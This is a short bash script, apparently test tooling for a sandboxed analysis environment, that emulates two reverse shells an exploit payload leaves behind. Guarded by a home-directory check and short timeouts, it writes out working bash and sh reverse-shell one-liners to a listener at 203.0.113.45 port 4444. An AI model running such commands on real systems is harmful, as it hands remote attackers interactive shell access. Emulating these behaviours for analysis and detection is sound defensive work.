#!/bin/bash
# SPDX-License-Identifier: MIT
# Two reverse shells an exploit's payload leaves behind, to an operator's
# listener on a public address: a bash whose descriptors are the TCP
# connection, and a plain sh with its output on the socket.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 bash -c '/bin/bash -i >&/dev/tcp/203.0.113.45/4444 0>&1' 2>/dev/null
timeout 3 sh -c 'sh >/dev/tcp/203.0.113.45/4444 <&1 2>&1' 2>/dev/null
exit 0
